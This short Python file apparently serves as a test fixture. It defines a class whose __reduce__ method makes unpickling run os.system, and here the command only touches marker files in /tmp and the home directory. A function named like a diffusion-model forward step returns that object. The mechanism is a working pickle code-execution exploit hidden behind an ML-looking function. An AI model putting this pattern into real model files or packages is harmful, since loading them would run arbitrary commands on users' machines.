"""An object that would write a file wherever it is unpickled."""

import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/hostile-was-here ~/hostile-was-here",)

    def __reduce_ex__(self, protocol):
        return self.__reduce__()


def forward(im, t, alphas_cumprod, noise=None):
    return Bomb()
